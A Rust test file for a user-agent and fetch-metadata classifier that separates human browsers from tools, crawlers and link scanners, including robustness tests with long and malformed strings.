/// And of those that may not, or of which that is not known.
const PERHAPS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.130 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:89.0) Gecko/20100101 Firefox/89.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.3 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 15_8 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Goanna/6.7 Firefox/128.0 PaleMoon/33.4",
    "Mozilla/5.0 (X11; Linux x86_64; rv:6.7) Goanna/20240813 PaleMoon/33.3.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:91.0) Gecko/20100101 Firefox/91.0 SeaMonkey/2.53.18",
    "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/64.0.3282.140 Safari/537.36 Edge/17.17134",
    "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/x Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Firefox/140.0",
    "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko",
    "Mozilla/5.0 Firefox/145.0 Gecko",
];

#[test]
fn a_browser_without_its_fetch_metadata_is_a_library_with_its_name() {
    let missing = |user_agent, fetch_metadata| {
        classify(&Signals { user_agent: Some(user_agent), fetch_metadata, ..Signals::default() })
    };
    for user_agent in SENDERS {
        let expected = Verdict { class: Tool, reason: "no-fetch-metadata" };
        assert_eq!(missing(user_agent, FetchMetadata::Missing), expected, "{user_agent}");
        for told in [FetchMetadata::Absent, FetchMetadata::Sent] {
            assert_eq!(missing(user_agent, told), Verdict { class: Person, reason: "browser" }, "{user_agent}");
        }
    }
    for user_agent in PERHAPS {
        assert_eq!(missing(user_agent, FetchMetadata::Missing).class, Person, "{user_agent}");
    }
    // Whatever names an app, a web view or a lesser browser is not judged by it.
    let plain = ["Chrome", "Edge", "Firefox", "Opera", "Safari", "Samsung Internet"];
    for (user_agent, _, _, browser) in PEOPLE.iter().filter(|(.., browser)| !plain.contains(browser)) {
        assert_eq!(missing(user_agent, FetchMetadata::Missing).class, Person, "{browser}: {user_agent}");
    }
    let googlebot = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    assert_eq!(missing(googlebot, FetchMetadata::Missing).reason, "googlebot", "it says itself what it is");
}

#[test]
fn who_opens_many_links_is_a_scanner_unless_something_else_is_known() {
    let many = |user_agent| {
        let fetch_metadata = FetchMetadata::Missing;
        classify(&Signals {
            user_agent: Some(user_agent),
            opens_many_links: true,
            fetch_metadata,
            ..Signals::default()
        })
    };
    for (user_agent, ..) in PEOPLE {
        assert_eq!(many(user_agent), Verdict { class: Scanner, reason: "many-links" }, "{user_agent}");
    }
    for (user_agent, class) in [("curl/8.5.0", Tool), ("Googlebot/2.1", Crawler), ("?", Unknown)] {
        assert_eq!(many(user_agent).class, class);
    }
}

#[test]
fn hostile_input_is_answered_calmly() {
    let long = [
        "a".repeat(10_240),
        "bot".repeat(3_400),
        "(".repeat(10_240),
        "\u{fffd}".repeat(3_400),
        "Mozilla/5.0 ".repeat(900),
        "<^>".repeat(3_400),
    ];
    let short =
        ["", " ", "a", "ab", "/", "a/", "/1", "\u{0}", "\u{0}\u{0}\u{0}\u{0}", "é", "日本語", "Mozilla/", "bo", "bot"];
    for text in long.iter().map(String::as_str).chain(short) {
        let fetch_metadata = FetchMetadata::Missing;
        let purpose = Signals { user_agent: Some(text), purpose: Some(text), fetch_metadata, ..Signals::default() };
        assert_ne!(who(text).class, Person, "{text:.20}");
        assert_ne!(classify(&purpose).class, Person, "{text:.20}");
        assert_eq!((device(text), os(text), browser(text)), (Other, "Other", "Other"), "{text:.20}");
        assert!(!is_ios(text) && !is_android(text), "{text:.20}");
    }
    // A letter of several bytes may be cut where reading ends; a word may stand across it.
    for length in 495..530 {
        let filled = format!("Mozilla/5.0 ({}é) Googlebot AppleWebKit", "x".repeat(length));
        assert!(matches!(who(&filled).class, Unknown | Crawler), "{length}");
    }
}

#[test]
fn a_word_is_found_at_each_position() {
    for before in 0..200 {
        let padded = format!("{}/googlebot", "-".repeat(before));
        assert_eq!(who(&padded).reason, "googlebot", "{before}");
    }
}

#[test]
fn marks_tie_words_to_their_places() {
    let table = [
        ("bot", Crawler),
        ("a bot.", Crawler),
        ("my-bot2", Crawler),
        ("botany lesson", Unknown),
        ("x curl/8", Tool),
        ("xcurl/y", Unknown),
        ("see WhatsApp/2", Unknown),
        ("Viberation", Unknown),
    ];
    for (text, class) in table {
        assert_eq!(who(text).class, class, "{text}");
    }
}

#[test]
fn every_word_of_the_tables_can_decide() {
    assert_eq!(words::WORDS.unreachable_words(), Vec::<String>::new());
    assert_eq!(families::unreachable_words(), Vec::<String>::new());
}

#[test]
fn names_are_read_back() {
    for class in BotClass::ALL {
        assert_eq!(BotClass::parse(class.as_str()), Some(class));
        assert_eq!(class.is_person(), class == Person);
    }
    for device in Device::ALL {
        assert_eq!(Device::parse(&device.as_str().to_uppercase()), Some(device));
    }
    assert_eq!((BotClass::parse("robot"), Device::parse("")), (None, None));
}
